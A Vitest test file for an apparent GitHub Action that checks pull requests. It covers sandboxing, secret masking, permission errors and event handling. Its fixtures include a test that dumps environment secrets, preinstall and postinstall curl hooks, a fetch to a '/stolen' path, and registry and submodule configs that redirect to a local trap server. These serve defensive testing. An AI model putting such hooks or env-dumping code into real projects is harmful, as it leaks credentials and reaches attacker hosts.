import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { target } from '../../../packages/github-simulator/test/github/bench.ts'
import { type ActionBench, openActionBench, type WorkflowRun, writesOf } from './action-bench.ts'
import { testOf, withRoadmap } from './toolbox.ts'

let bench: ActionBench
beforeEach(async () => {
  bench = await openActionBench(
    {
      ...withRoadmap('T-1: Halve\n  - **Files**: `src/add.js`'),
      '.github/executor.yml': 'sandbox: auto\n',
    },
    [],
  )
})
afterEach(() => bench[Symbol.asyncDispose]())

type Files = Readonly<Record<string, string>>

const test = { 'test/sub.test.js': testOf('sub', 'assert.equal(sub(5, 3), 2)') }
const right: Files = { 'src/sub.js': 'export const sub = (a, b) => a - b\n', ...test }

const repository = { id: 1, default_branch: 'main' }

/** Opens a pull request with these files; answers the event that GitHub sends for it. */
async function propose(files: Files, how: { readonly from?: number | null } = {}) {
  const sha = await bench.push('change', files)
  const { data } = await bench
    .octokit('owner-token')
    .pulls.create({ ...target, head: 'change', base: 'main', title: 'A change' })
  const { from = repository.id } = how
  const head = { sha, repo: from === null ? null : { id: from } }
  return {
    ...{ action: 'opened', number: data.number, repository },
    pull_request: { number: data.number, head, base: { ref: 'main' } },
  }
}

const check = (payload: object, more: Parameters<ActionBench['run']>[0] = {}) =>
  bench.run({
    ...{ event: 'pull_request', ref: 'refs/pull/1/merge', payload },
    ...more,
    inputs: { command: 'check', model: '', 'api-key': '', ...more?.inputs },
  })

const checks = async () => (await bench.server.state('ada', 'engine')).checks

/** The only writes of a check are of its check run. */
function expectOnlyChecks(run: WorkflowRun) {
  expect(run.modelCalls).toBe(0)
  const paths = writesOf(run).map(({ method, path }) => `${method} ${path.replace(/\d+$/, 'N')}`)
  const ours = /^(POST|PATCH) (\/api\/v3)?\/repos\/ada\/engine\/check-runs(\/N)?$/
  expect(paths.filter((path) => !ours.test(path))).toEqual([])
}

describe('command: check on a pull request', () => {
  it('writes a check run with the receipt, and passes', async () => {
    const event = await propose(right)
    const run = await check(event)
    expect(run).toMatchObject({ exitCode: 0, annotations: [] })
    expectOnlyChecks(run)
    const [one, ...others] = await checks()
    expect(others).toEqual([])
    expect(one).toMatchObject({
      ...{ name: 'executor check', sha: event.pull_request.head.sha },
      ...{ outcome: 'success', title: 'Passed, proven', annotations: [] },
    })
    expect(one?.description).toContain('**Proven** by `npm test`: 2 passed')
    expect(one?.description).toContain('1 new test cannot load without the new code')
    expect(run.summary).toContain(one?.description ?? '?')
  })

  it('fails for a change whose source was left out, on the line that shows it', async () => {
    const run = await check(await propose(test))
    expect(run.exitCode).toBe(1)
    expectOnlyChecks(run)
    const [one] = await checks()
    expect(one).toMatchObject({ outcome: 'failure', title: expect.stringMatching(/^Not passed: /) })
    expect(one?.annotations[0]).toMatchObject({
      ...{ path: 'test/sub.test.js', annotation_level: 'failure' },
    })
    expect(run.stdout).toContain('::error::#1: Not passed')
  })

  it('is neutral where no test shows anything, and the job fails', async () => {
    const run = await check(await propose(right), { env: { EXECUTOR_VERIFY_MODE: 'skip' } })
    expect(run.exitCode).toBe(1)
    expect(await checks()).toMatchObject([{ outcome: 'neutral', title: 'Not verified: 1 error' }])
  })

  it('takes its settings from the base, and no setting, dependency or secret from the change', async () => {
    const spy = `import { test } from 'node:test'
test('looks', () => { throw new Error('seen actions-token ' + JSON.stringify(process.env)) })
`
    const evil = {
      '.github/executor.yml': 'verify-mode: skip\nenabled: false\n',
      'test/spy.test.js': spy,
    }
    const run = await check(await propose({ ...right, ...evil }), {
      env: { GITHUB_TOKEN: 'actions-token', DEPLOY_KEY: 'canary-of-the-job' },
    })
    expect(run.exitCode).toBe(1)
    const [one] = await checks()
    expect(one?.annotations.map(({ path }) => path)).toContain('.github/executor.yml')
    const log = run.stdout.replace('::add-mask::actions-token', '')
    const told = `${JSON.stringify(one)}${log}${run.summary}`
    expect(told).toContain('seen *** ')
    expect(told).not.toMatch(/canary-of-the-job|actions-token/)
  })

  it.each([
    ['from a fork', 4711],
    ['whose fork is gone', null],
  ])('%s runs in a sandbox, and says why it has no check run', async (_, from) => {
    const denied = { kind: 'status', status: 403, when: 'before' } as const
    const message = 'Resource not accessible by integration'
    const path = '/repos/{owner}/{repo}/check-runs'
    bench.server.faults.add({ method: 'POST', path, times: 9, effect: { ...denied, message } })
    const run = await check(await propose(test, { from }), { inputs: { sandbox: 'off' } })
    expect(run.exitCode).toBe(1)
    expect(await checks()).toEqual([])
    expect(run.summary).toMatch(/^## Not passed: /)
    expect(run.summary).toMatch(/Sandbox: (?!unsandboxed)/)
    expect(run.annotations[0]?.message).toMatch(
      /could not be written: POST \S+: 403 Resource not accessible.*from a fork/,
    )
    expect(run.annotations[1]).toMatchObject({ level: 'error' })
  })

  it.each([
    ['by its tests', false],
    ['by what it installs', true],
  ])('from a fork reaches no address that it names, %s', async (_, installs) => {
    const trap = createServer((_request, response) => response.end('{}')).listen(0, '127.0.0.1')
    await once(trap, 'listening')
    const reached: string[] = []
    trap.on('connection', ({ remotePort }) => reached.push(`${remotePort}`))
    try {
      const { port } = trap.address() as AddressInfo
      const url = `http://127.0.0.1:${port}`
      const scripts = { preinstall: `curl ${url}`, postinstall: `curl ${url}`, test: 'node --test' }
      const dependencies = { 'left-pad': `${url}/left-pad.tgz` }
      const manifest = JSON.stringify({ name: 'toolbox', type: 'module', scripts, dependencies })
      const named: Files = {
        ...right,
        '.github/executor.yml': `base-url: ${url}/v1\nverify:\n  network: true\n  registries: [${url}]\nsandbox: off\n`,
        '.yarnrc.yml': `npmRegistryServer: "${url}"\n`,
        'pip.conf': `[global]\nindex-url = ${url}/simple\n`,
        '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ${url}/x.git\n`,
        '.lfsconfig': `[lfs]\n\turl = ${url}/lfs\n`,
        '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
        'a.bin': `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 9\n`,
        'test/reach.test.js': `import { test } from 'node:test'\ntest('reaches', () => fetch('${url}/stolen'))\n`,
        ...(installs && {
          'package.json': manifest,
          '.npmrc': `registry=${url}/\nfetch-retries=0\n`,
        }),
      }
      const run = await check(await propose(named, { from: 4711 }))
      expect(run.exitCode).toBe(1)
      expect(run.summary).toContain(installs ? 'npm install failed' : 'reaches: fetch failed')
      expect(reached).toEqual([])
      await fetch(url)
      expect(reached).toHaveLength(1)
    } finally {
      trap.close()
      trap.closeAllConnections()
    }
  })

  it('without the permission names it, and ends by the verdict', async () => {
    const denied = { kind: 'status', status: 403, when: 'before' } as const
    bench.server.faults.add({ path: '/repos/{owner}/{repo}/check-runs', effect: denied })
    const run = await check(await propose(right))
    expect(run.exitCode).toBe(0)
    expect(run.annotations).toMatchObject([{ level: 'warning' }])
    expect(run.annotations[0]?.message).toContain('Add `checks: write` to the permissions')
    expect(run.summary).toContain('## Passed')
  })

  it('killed while it writes, finishes its own check run the next time', async () => {
    const broken = Array.from({ length: 60 }, (_, at) => [`src/b${at}.js`, 'export const = 1\n'])
    const event = await propose(Object.fromEntries(broken))
    const vanish = new AbortController()
    bench.server.faults.add({
      ...{ method: 'PATCH', path: '/repos/{owner}/{repo}/check-runs/{check_run_id}' },
      effect: { kind: 'drop', when: 'before', met: () => vanish.abort() },
    })
    await check(event, { vanish: vanish.signal })
    expect((await checks()).map(({ outcome }) => outcome)).toEqual(['pending'])
    const run = await check(event)
    expect(run.exitCode).toBe(1)
    const [one, ...others] = await checks()
    expect(others).toEqual([])
    expect(one?.outcome).toBe('failure')
    expect(new Set(one?.annotations.map(({ path }) => path)).size).toBeGreaterThanOrEqual(60)
  })

  it('leaves a commit to the job of a newer one', async () => {
    const event = await propose(test)
    await bench.push('change', right, 'change')
    const run = await check(event)
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('#1 has moved on from')
    expect(await checks()).toEqual([])
  })

  it('judges scope by a task of the base', async () => {
    const run = await check(await propose(right), { inputs: { task: 'T-1' } })
    expect((await checks())[0]?.title).toBe('Passed, proven: 2 warnings')
    expect(run.exitCode).toBe(0)
  })

  it.each([
    ['pull_request_target', 1, 'Nothing is checked on pull_request_target'],
    ['workflow_dispatch', 1, 'command: check needs the event pull_request'],
    ['merge_group', 1, 'command: check needs the event pull_request'],
    ['pull_request', 1, 'The payload names no pull request'],
  ])('on the event %s without one ends with %i', async (event, exitCode, said) => {
    const run = await check({ action: 'opened', repository }, { event })
    expect(run).toMatchObject({ exitCode, modelCalls: 0, apiCalls: [] })
    expect(run.stdout).toContain(said)
  })

  it('has nothing to do when the pull request is closed', async () => {
    const run = await check({ ...(await propose(right)), action: 'closed' })
    expect(run.exitCode).toBe(0)
    expect(await checks()).toEqual([])
  })
})
